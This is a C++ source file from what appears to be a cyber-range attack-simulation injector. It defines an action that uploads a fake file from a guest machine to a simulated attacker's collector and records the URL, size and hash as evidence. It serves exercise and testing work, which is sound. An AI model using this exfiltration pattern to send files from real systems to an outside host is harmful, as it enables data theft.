// http-upload: `actor` sends one fake file from a guest to the attacker's collector. That it was
// sent is confirmed here; that it arrived whole is what the collector says.
#include "injector/actions/verbs.h"
#include "injector/utf8.h"

namespace enshu::inject {
namespace {

std::string url(const ActContext &context, const dsl::HttpUpload &upload) {
    return "http://" + address_for(context, upload.to, upload.on) + upload_path(context.step.id);
}

} // namespace

nlohmann::json perform(const ActContext &context, const dsl::HttpUpload &upload) {
    const std::string program = "/usr/lib/enshu/actor";
    std::vector<std::string> argv{
        "/usr/sbin/runuser", "-u", user_of(context, upload.on), "--", program, "upload", "--url",
        url(context, upload)};
    add_proxy(context, upload.via, upload.on, argv);
    argv.push_back("--file");
    argv.push_back(upload.what);
    const RunResult result = run_checked(context, upload.on, argv, 4 * call_deadline);
    const nlohmann::json report = parse_report(result.output, program);
    nlohmann::json evidence{{"url", url(context, upload)}, {"file", upload.what}};
    if (report.contains("bytes") && report["bytes"].is_number_unsigned())
        evidence["bytes"] = report["bytes"];
    if (report.contains("sha256") && report["sha256"].is_string())
        evidence["sha256"] = clean_utf8(report["sha256"].get<std::string>(), 64);
    return evidence;
}

// The program has ended when perform() returns, and the copy lies with the attacker, whose host
// goes with its range.
void undo(const ActContext &, const dsl::HttpUpload &) {}

} // namespace enshu::inject
